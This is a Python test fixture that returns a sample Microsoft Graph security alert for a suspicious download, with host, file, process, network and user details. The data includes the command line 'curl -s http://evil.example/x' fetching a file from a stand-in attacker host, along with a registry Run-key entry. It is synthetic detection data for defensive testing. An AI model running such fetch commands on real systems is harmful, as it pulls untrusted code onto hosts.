"""Microsoft Graph, the legacy security/alerts: an alert with states of every kind."""

from __future__ import annotations

from typing import Any

from tests.examples._base import RESOURCE, SUBSCRIPTION

IDENTITY = ("id",)
VERSION = ("lastModifiedDateTime",)
RESOLVED = {"status": "resolved", "lastModifiedDateTime": "2026-03-04T11:00:00Z"}


def record(**overrides: Any) -> dict[str, Any]:
    record: dict[str, Any] = {
        "id": "2518000000000000001_0a1b2c3d-1111-4222-8333-444455556666",
        "activityGroupName": "Storm-0000",
        "assignedTo": "sam@corp.example",
        "azureSubscriptionId": SUBSCRIPTION.upper(),
        "azureTenantId": "22222222-0000-4000-8000-000000000002",
        "category": "SuspiciousDownload",
        "closedDateTime": None,
        "comments": ["Seen."],
        "confidence": 90,
        "createdDateTime": "2026-03-04T10:13:14.9876543Z",
        "description": "Somebody fetched a file and started it.",
        "detectionIds": ["d-1"],
        "eventDateTime": "2026-03-04T10:11:12.1234567Z",
        "feedback": "truePositive",
        "incidentIds": ["4711"],
        "lastModifiedDateTime": "2026-03-04T10:20:00.5Z",
        "recommendedActions": ["Ask the owner.", "Isolate the machine."],
        "severity": "medium",
        "sourceMaterials": ["https://portal.azure.com/#alert"],
        "status": "newAlert",
        "tags": ["HVA"],
        "title": "Suspicious download",
        "vendorInformation": {
            "provider": "ASC",
            "providerVersion": "3.0",
            "subProvider": "Detection",
            "vendor": "Microsoft",
        },
        "cloudAppStates": [
            {"destinationServiceName": "Office 365", "destinationServiceIp": "203.0.113.10"}
        ],
        "fileStates": [
            {
                "name": "x.sh",
                "path": "/tmp/x.sh",
                "fileHash": {"hashType": "sha256", "hashValue": "2c" * 32},
            }
        ],
        "hostStates": [
            {
                "fqdn": "shop-vm-1.corp.example",
                "netBiosName": "SHOP-VM-1",
                "os": "Linux",
                "privateIpAddress": "10.0.0.7",
                "publicIpAddress": None,
            }
        ],
        "malwareStates": [{"name": "Odd.A", "family": "Odd", "category": "trojan"}],
        "messageSecurityStates": [
            {
                "messageSubject": "Invoice",
                "networkMessageId": "m-1",
                "connectingIP": "203.0.113.8",
                "deliveryAction": "Delivered",
            }
        ],
        "networkConnections": [
            {
                "sourceAddress": "10.0.0.7",
                "sourcePort": "40000",
                "destinationAddress": "203.0.113.7",
                "destinationPort": "80",
                "destinationDomain": "evil.example",
                "destinationUrl": "http://evil.example/x",
                "protocol": "tcp",
                "natSourceAddress": "192.0.2.1",
            }
        ],
        "processes": [
            {
                "accountName": "svc-web",
                "commandLine": "curl -s http://evil.example/x",
                "name": "curl",
                "path": "/usr/bin/curl",
                "processId": 8000,
                "parentProcessId": 1,
                "parentProcessName": "bash",
                "fileHash": None,
            }
        ],
        "registryKeyStates": [
            {"hive": "localMachine", "key": "software\\run", "valueName": "x", "valueData": "x.exe"}
        ],
        "securityResources": [{"resource": RESOURCE, "resourceType": "attacked"}],
        "uriClickSecurityStates": [{"uriDomain": "evil.example", "verdict": "blocked"}],
        "userStates": [
            {
                "aadUserId": "aaaaaaaa-5555-4222-8333-444455556666",
                "accountName": "ann",
                "domainName": "CORP",
                "emailRole": "recipient",
                "logonId": "0x3e7",
                "logonIp": "203.0.113.9",
                "userPrincipalName": "ann@corp.example",
            }
        ],
        "vulnerabilityStates": [{"cve": "CVE-2026-0001", "severity": "high"}],
    }
    return record | overrides
